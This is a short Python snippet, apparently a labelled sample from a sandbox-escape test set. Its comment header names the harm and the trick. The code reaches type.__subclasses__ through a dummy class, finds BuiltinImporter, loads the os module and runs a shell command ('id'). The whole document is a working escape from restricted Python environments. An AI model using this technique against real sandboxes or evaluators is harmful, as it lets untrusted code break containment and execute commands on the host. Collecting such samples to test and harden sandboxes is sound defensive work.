# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: unbound type.__subclasses__ reached via type(own class), applied to object
class Base:
    pass


for c in type(Base).__subclasses__(object):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
